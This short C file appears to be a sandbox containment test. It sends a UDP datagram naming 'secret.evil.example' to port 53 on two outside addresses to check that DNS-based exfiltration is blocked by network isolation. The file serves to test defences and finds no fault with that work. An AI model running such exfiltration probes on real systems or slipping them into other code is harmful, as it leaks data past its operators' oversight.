/* Tries: to carry data out in names that it asks a name server for, over UDP.
 * Stopped by: no route out of the network namespace; a datagram is refused before it exists. */
#include "attack.h"
#include <arpa/inet.h>

static void ask(const char *server) {
    struct sockaddr_in four = {.sin_family = AF_INET, .sin_port = htons(53)};
    inet_pton(AF_INET, server, &four.sin_addr);
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    tried(server, sendto(s, "secret.evil.example", 19, 0, (struct sockaddr *)&four, sizeof four));
}

int main(void) {
    ask("192.0.2.53");
    ask("8.8.8.8");
    return 0;
}
